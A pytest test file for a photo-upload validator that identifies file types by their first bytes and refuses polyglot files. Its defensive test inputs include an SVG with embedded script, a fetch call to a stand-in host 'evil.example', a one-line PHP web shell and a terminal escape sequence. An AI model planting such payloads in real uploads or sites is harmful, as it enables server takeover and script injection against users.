"""What a file is by its first bytes, and whether it is a second thing as well."""

import io
import zipfile

import pytest
from PIL import Image

from infra.photos.file_kinds import recognise_kind, require_single_meaning
from infra.photos.invalid_photo import InvalidPhoto
from tests.fixtures.photo_files import save, whole_photos


def zipped(name: str = "run.class") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(name, b"x" * 100)
    return target.getvalue()


def test_every_kind_that_is_read_is_recognised_and_means_one_thing() -> None:
    kinds = {}
    for name, data in whole_photos().items():
        kinds[name] = recognise_kind(data)
        require_single_meaning(data)
    assert set(kinds.values()) == {"JPEG", "PNG", "WEBP", "TIFF", "GIF"}
    assert {name for name, kind in kinds.items() if kind not in name.upper()} == set()


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "an SVG, which is a drawing"),
        (b"\xef\xbb\xbf<?xml version='1.0'?>\n<!-- x -->\n<svg/>", "an SVG, which is a drawing"),
        (b"<!DOCTYPE html><html><body>404 Not Found</body></html>", "a page"),
        (b"\n  <html>", "a page"),
        (b"%PDF-1.7\n", "a PDF"),
        (zipped(), "a ZIP archive"),
        (b"\0\0\0\x20ftypheic\0\0\0\0mif1heic", "a HEIC, as phones write it"),
        (b"\0\0\0\x20ftypavif", "an AVIF"),
        (b"\0\0\0\x20ftypisom", "a film"),
        (b"8BPS\0\x01", "a Photoshop document"),
        (b"MZ\x90\0", "a program"),
        (b"\x7fELF", "a program"),
        (b"II+\0\x08\0", "a BigTIFF"),
        (b"\0\0\0\x0cJXL \r\n", "a JPEG XL"),
        (save(Image.new("RGB", (9, 9)), "BMP"), "a BMP"),
        (b"\x1b[2Jphoto.jpg", "of no known kind (it starts with b'"),
    ],
)
def test_another_kind_is_refused_by_its_name(data: bytes, name: str) -> None:
    with pytest.raises(InvalidPhoto) as refused:
        recognise_kind(data)
    assert refused.value.reason == "photo.wrong-format"
    assert f"The photo is {name}" in str(refused.value)
    assert str(refused.value).endswith("; give a JPEG, PNG, WebP or TIFF.")
    assert "\x1b" not in str(refused.value)


def test_an_empty_file_is_unreadable_and_no_other_kind() -> None:
    with pytest.raises(InvalidPhoto, match="it has no bytes") as refused:
        recognise_kind(b"")
    assert refused.value.reason == "photo.unreadable"


@pytest.mark.parametrize("name", ["JPEG", "PNG", "WebP", "TIFF", "GIF"])
@pytest.mark.parametrize(
    ("appended", "what"),
    [
        (zipped(), "a ZIP archive"),
        (b"Rar!\x1a\x07\x01\0", "a RAR archive"),
        (b"<ScRiPt>fetch('//evil.example')</script>", "a web page or a script"),
        (b"<?php system($_GET['c']); ?>", "a web page or a script"),
        (b"\n<html><body onload=x>", "a web page or a script"),
    ],
)
def test_a_picture_with_a_second_meaning_behind_it_is_refused(name: str, appended: bytes, what: str) -> None:
    with pytest.raises(InvalidPhoto, match=f"a picture and {what} in one file") as refused:
        require_single_meaning(whole_photos()[name] + appended)
    assert refused.value.reason == "photo.polyglot"


def test_a_zip_with_a_comment_of_any_length_is_found_and_a_pdf_by_its_first_kilobyte() -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("a", b"b")
        archive.comment = b"c" * 65_535
    with pytest.raises(InvalidPhoto, match="a ZIP archive"):
        require_single_meaning(whole_photos()["JPEG"] + target.getvalue())
    comment = b"\xff\xd8\xff\xfe\0\x10%PDF-1.4 hello\0" + whole_photos()["JPEG"][2:]
    with pytest.raises(InvalidPhoto, match="a PDF"):
        require_single_meaning(comment)


@pytest.mark.parametrize("appended", [bytes(64), b"PK\x05\x06" + bytes(20), b"ftypmp42" + bytes(99)])
def test_what_phones_append_and_what_stands_there_by_chance_is_no_second_meaning(appended: bytes) -> None:
    require_single_meaning(whole_photos()["JPEG"] + appended)
    require_single_meaning(whole_photos()["JPEG"] + whole_photos()["JPEG"])
